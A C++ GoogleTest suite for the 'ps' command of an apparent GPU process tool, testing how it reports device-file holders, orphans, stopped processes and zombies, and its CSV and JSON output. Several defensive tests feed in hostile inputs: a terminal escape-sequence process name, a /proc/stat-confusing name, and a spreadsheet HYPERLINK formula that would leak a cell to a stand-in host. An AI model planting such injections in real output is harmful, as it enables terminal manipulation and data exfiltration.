// `gpureap ps` against real processes holding stand-in device files under a temporary dev root.
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/prctl.h>
#include <unistd.h>

#include <set>

#include "support.h"

namespace gpureap::testing {
namespace {

std::vector<std::string> ps_args(const FakeDevRoot& dev) {
  return {"ps", "--json", "--dev-root", dev.path()};
}

std::set<pid_t> row_pid_set(const nlohmann::json& snap) {
  std::set<pid_t> out;
  for (const auto& p : snap["processes"]) out.insert(p["pid"].get<pid_t>());
  return out;
}

bool has_entry(const std::vector<std::string>& v, const std::string& s) {
  return std::find(v.begin(), v.end(), s) != v.end();
}

TEST(PsHolders, ProcessHoldingTwoDeviceFiles) {
  FakeDevRoot dev;
  Ready ready;
  Child holder([&] {
    int a = hold(dev.dev("nvidia0"));
    int b = hold(dev.dev("nvidia-uvm"));
    ready.send(a * 1000 + b);
  });
  long fds = ready.receive();
  auto snap = run_json(ps_args(dev));
  EXPECT_EQ(snap["schema"], "gpureap.snapshot/v1");
  EXPECT_EQ(snap["complete"], true);
  EXPECT_EQ(snap["backend"]["name"], "nvml");
  EXPECT_TRUE(snap["gpus"].is_array());
  EXPECT_EQ(row_pid_set(snap), std::set<pid_t>{holder.pid()});
  auto row = row_of(snap, holder.pid());
  ASSERT_FALSE(row.is_null());
  ASSERT_EQ(row["devices"].size(), 2u);
  EXPECT_EQ(row["devices"][0]["path"], dev.dev("nvidia-uvm"));
  EXPECT_EQ(row["devices"][0]["fds"], nlohmann::json::array({fds % 1000}));
  EXPECT_EQ(row["devices"][1]["path"], dev.dev("nvidia0"));
  EXPECT_EQ(row["devices"][1]["fds"], nlohmann::json::array({fds / 1000}));
  EXPECT_EQ(row["holds_device"], true);
  EXPECT_EQ(row["listed_by_driver"], false);
  EXPECT_EQ(row["gpus"], nlohmann::json::array());
  EXPECT_EQ(row["ppid"], getpid());
  EXPECT_EQ(row["pgid"], getpgrp());
  EXPECT_EQ(row["uid"], getuid());
  EXPECT_TRUE(row["user"].is_string());
  EXPECT_TRUE(row["start_time"].is_string());
  EXPECT_EQ(row["container"].is_null() || row["container"].is_object(), true);
  EXPECT_EQ(row["anomalies"], nlohmann::json::array());
  EXPECT_EQ(row["ns_pids"].back(), holder.pid());
}

TEST(PsHolders, InheritedHoldersOfADeadParentAreOrphansInItsGroup) {
  FakeDevRoot dev;
  Ready ready;
  Child parent([&] {
    ::setpgid(0, 0);
    hold(dev.dev("nvidia0"));
    hold(dev.dev("nvidiactl"));
    for (int i = 0; i < 2; ++i) {
      if (::fork() == 0) {
        ::prctl(PR_SET_NAME, "loader-worker");
        ready.send(::getpid());  // only once renamed
        for (;;) ::pause();
      }
    }
    ::_exit(0);
  });
  pid_t leader = parent.pid();
  pid_t c1 = static_cast<pid_t>(ready.receive());
  pid_t c2 = static_cast<pid_t>(ready.receive());
  parent.kill_and_reap();  // reaps the exited parent: its group now has no leader
  // Without a driver that lists the gone parent, nothing says its job is gone: no orphans.
  for (pid_t c : {c1, c2})
    EXPECT_FALSE(has_entry(anomalies(row_of(run_json(ps_args(dev)), c)), "orphan"));
  REQUIRE_DOUBLE();
  // The driver lists the gone parent's context, which its workers keep: they are orphans.
  FakeNvml nvml(nlohmann::json{
      {"gpus",
       {{{"uuid", "GPU-0000"},
         {"minor", 0},
         {"processes", {{{"pid", leader}, {"used_bytes", GiB}, {"holders", {c1, c2}}}}}},
        {{"uuid", "GPU-0001"}, {"minor", 1}, {"processes", nlohmann::json::array()}}}}});
  auto snap = run_json(ps_args(dev), nvml.env());
  EXPECT_EQ(row_pid_set(snap), (std::set<pid_t>{leader, c1, c2}));
  for (pid_t c : {c1, c2}) {
    auto row = row_of(snap, c);
    ASSERT_FALSE(row.is_null());
    EXPECT_EQ(row["comm"], "loader-worker");
    EXPECT_EQ(row["pgid"], leader);
    EXPECT_NE(row["ppid"], leader);
    EXPECT_TRUE(has_entry(anomalies(row), "orphan")) << row.dump();
    ASSERT_EQ(row["devices"].size(), 2u);
    EXPECT_EQ(row["devices"][0]["path"], dev.dev("nvidia0"));
    EXPECT_EQ(row["devices"][1]["path"], dev.dev("nvidiactl"));
    ::kill(c, SIGKILL);
  }
  wait_gone(c1);
  wait_gone(c2);
}

TEST(PsHolders, StoppedHolder) {
  FakeDevRoot dev;
  Child holder = holding(dev, "nvidia1");
  ::kill(holder.pid(), SIGSTOP);
  ASSERT_TRUE(wait_for_state(holder.pid(), 'T'));
  auto snap = run_json(ps_args(dev));
  auto row = row_of(snap, holder.pid());
  ASSERT_FALSE(row.is_null());
  EXPECT_EQ(row["state"], "T");
  EXPECT_EQ(anomalies(row), std::vector<std::string>{"stopped"});
  EXPECT_EQ(row_pid_set(snap), std::set<pid_t>{holder.pid()});
}

TEST(PsHolders, HolderWithUnreapedZombieChild) {
  FakeDevRoot dev;
  Ready ready;
  Child holder([&] {
    hold(dev.dev("dri/renderD128"));
    pid_t z = ::fork();
    if (z == 0) ::_exit(0);
    ready.send(z);
  });
  pid_t zombie = static_cast<pid_t>(ready.receive());
  ASSERT_TRUE(wait_for_state(zombie, 'Z'));
  auto snap = run_json(ps_args(dev));
  EXPECT_EQ(row_pid_set(snap), std::set<pid_t>{holder.pid()});
  auto row = row_of(snap, holder.pid());
  EXPECT_EQ(anomalies(row), std::vector<std::string>{"zombie-children"});
  EXPECT_EQ(row["devices"][0]["path"], dev.dev("dri/renderD128"));
}

TEST(PsHolders, HostileCommIsReportedExactlyAndSanitisedOnTheTerminal) {
  FakeDevRoot dev;
  Child holder = holding(dev, "nvidia0", [&] { ::prctl(PR_SET_NAME, ") (x y"); });
  auto snap = run_json(ps_args(dev));
  auto row = row_of(snap, holder.pid());
  ASSERT_FALSE(row.is_null());
  EXPECT_EQ(row["comm"], ") (x y");
  EXPECT_EQ(row["state"], "S");
  EXPECT_EQ(row["ppid"], getpid());

  Child evil = holding(dev, "nvidia0", [&] { ::prctl(PR_SET_NAME, "\x1b[31mevil\n"); });
  auto text = run_gpureap({"ps", "--dev-root", dev.path()});
  EXPECT_EQ(text.exit_code, 0);
  EXPECT_EQ(text.out.find('\x1b'), std::string::npos) << text.out;
  EXPECT_NE(text.out.find("\\x1b[31mevil\\n"), std::string::npos) << text.out;
}

TEST(PsHolders, NothingOutsideTheDevRootIsReported) {
  FakeDevRoot dev, other;
  Child outsider = holding(other, "nvidia0");
  auto snap = run_json(ps_args(dev));
  EXPECT_EQ(snap["processes"], nlohmann::json::array());
}

TEST(PsHolders, CsvHasAHeaderAndOneRowPerHolder) {
  FakeDevRoot dev;
  Child holder = holding(dev, "nvidia0");
  auto r = run_gpureap({"--csv", "ps", "--dev-root", dev.path()});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out.rfind("pid,user,state,", 0), 0u);
  EXPECT_EQ(std::count(r.out.begin(), r.out.end(), '\n'), 2);
  EXPECT_NE(r.out.find("\n" + std::to_string(holder.pid()) + ","), std::string::npos);
}

// A command line that a spreadsheet would run as a formula is text in the CSV: its cell
// starts with '.
TEST(PsHolders, CsvCellsThatWouldBeFormulasStartWithAQuote) {
  FakeDevRoot dev;
  // No slash in it: the command column shows argv[0] from its last slash on.
  const std::string formula = "=HYPERLINK(\"example.invalid?\"&A1,\"x\")";
  Child holder([&] {
    hold(dev.dev("nvidia0"));  // kept across exec: the fd has no close-on-exec flag
    ::execl("/bin/sleep", formula.c_str(), "1000", nullptr);
    ::_exit(97);
  });
  const std::string cmdline = "/proc/" + std::to_string(holder.pid()) + "/cmdline";
  ASSERT_TRUE(wait_until([&] { return read_text(cmdline).rfind(formula, 0) == 0; }));
  auto r = run_gpureap({"--csv", "ps", "--dev-root", dev.path()});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  // Quoted (it has a comma and quotes), the quotes doubled, and ' before the =.
  EXPECT_NE(r.out.find(",\"'=HYPERLINK(\"\"example.invalid?\"\"&A1,\"\"x\"\") 1000 "
                       "(sleep)\"\n"),
            std::string::npos)
      << r.out;
  EXPECT_EQ(r.out.find(",=HYPERLINK"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find(",\"=HYPERLINK"), std::string::npos) << r.out;
}

TEST(PsCli, MissingRootsAreEnvironmentErrors) {
  auto r = run_gpureap({"--proc-root", "/nonexistent/proc"});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("/nonexistent/proc"), std::string::npos) << r.err;
  r = run_gpureap({"ps", "--dev-root", "/nonexistent/dev"});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("/nonexistent/dev"), std::string::npos) << r.err;
  r = run_gpureap({"ps", "--no-such-flag"});
  EXPECT_EQ(r.exit_code, 2);
}

TEST(PsCli, HelpAndVersion) {
  auto r = run_gpureap({"--version"});
  EXPECT_EQ(r.exit_code, 0);
  EXPECT_EQ(r.out.rfind("gpureap ", 0), 0u);
  r = run_gpureap({"--help"});
  EXPECT_EQ(r.exit_code, 0);
  EXPECT_NE(r.out.find("ps"), std::string::npos);
}

}  // namespace
}  // namespace gpureap::testing
